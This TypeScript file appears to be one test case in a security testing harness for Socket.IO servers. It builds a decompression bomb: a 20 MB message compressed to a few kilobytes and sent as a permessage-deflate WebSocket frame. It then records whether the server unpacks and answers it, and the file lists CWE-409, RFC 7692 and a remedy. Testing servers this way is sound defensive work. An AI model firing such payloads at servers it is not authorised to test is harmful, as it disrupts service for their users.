import { deflateRawSync } from 'node:zlib'
import { encodeFrame, encodePacket, OPCODE } from '../../../target/wire/index.ts'
import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { attackerSession } from '../../kit/event-steps.ts'

/** A few kilobytes on the wire; Socket.IO's own bound for what comes of them is 1 MB. */
const bytes = 20_000_000

export default defineAttack({
  id: 'dos/deflate-bomb',
  rows: ['dos.deflate.bomb'],
  title: 'Twenty megabytes of one letter, compressed to some kilobytes: are they unpacked and read?',
  requirement: 'RFC 7692 section 8.1 and CWE-409: what is unpacked has the same bound as what is sent plainly',
  impact: 'For a few kilobytes the server unpacks, keeps and parses a thousand times as much.',
  remedy: 'Leave perMessageDeflate off, or maxHttpBufferSize at what messages need: it bounds what is unpacked.',
  severity: 'medium',
  cwe: ['CWE-409'],
  references: ['RFC 7692 section 8.1'],
  provenBy: 'deflate-on-buffer-100mb',
  needs: ['websocket', 'acknowledgement', 'textPackets'],
  effect: 'disrupt',
  holds: 'account',
  loud: true,
  async run(context) {
    const { chat } = context.target.profile
    const witness = await openWitness(context)
    const session = await attackerSession(context, {
      transport: 'websocket',
      headers: [
        ['Sec-WebSocket-Extensions', 'permessage-deflate; server_no_context_takeover; client_no_context_takeover'],
      ],
    })
    const chosen = session.engine.responseHeaders.find(
      ([name]) => name.toLowerCase() === 'sec-websocket-extensions',
    )?.[1]
    const finish = async () => (await control(context, 'an honest client', witness)).observation
    if (!chosen?.includes('permessage-deflate')) {
      context.note('received', 'compression was offered and is not taken: there is nothing to unpack')
      return resisted(await finish(), context.evidence)
    }
    const first = await session.sayWithAck(context.canary(), context.settleMs)
    if (first === undefined) return inconclusive('a short message is not acknowledged', context.evidence)
    const data = [chat.send.event, ...context.target.messageArgs('x'.repeat(bytes))]
    const { text } = encodePacket({ type: 'event', nsp: session.namespace, data, id: 4_000_001 })
    // RFC 7692 section 7.2.1: the four bytes of an empty block at the end are left out.
    const packed = deflateRawSync(Buffer.from(`4${text}`), { finishFlush: 2 }).subarray(0, -4)
    const answer = Promise.withResolvers<boolean>()
    const before = session.engine.onPacket
    session.engine.onPacket = (packet) => {
      if (packet.type === 'message' && String(packet.data).startsWith('3')) answer.resolve(true)
      before?.(packet)
    }
    session.engine.sendFrame(encodeFrame({ opcode: OPCODE.text, rsv: 4, payload: packed }))
    const waited = context.wait(3_000, 'for an answer to what was unpacked')
    const answered = await Promise.race([answer.promise, Promise.race([session.ended, waited]).then(() => false)])
    const how = answered ? 'unpacked, read and answered' : (session.end?.how ?? 'no answer')
    context.note('received', `${packed.length} bytes that make ${text.length}: ${how}`)
    session.kill()
    const { attacker } = context
    context.recording.written(
      ({ value, door }) => `// Socket.IO's own client offers compression, and compresses what is long.
const c0 = await connect(${door({ token: attacker.token, transport: 'websocket' })}, true)
expect(c0.manager.engine.transport.ws.extensions.includes('permessage-deflate'), 'compression is not taken')
const answer = await answerOf(c0.sockets[${value(session.namespace)}], ...${value(data)})
expect(answer !== undefined, 'what was unpacked is not answered')`,
    )
    const observation = await finish()
    return answered ? vulnerable(context.evidence) : resisted(observation, context.evidence)
  },
})
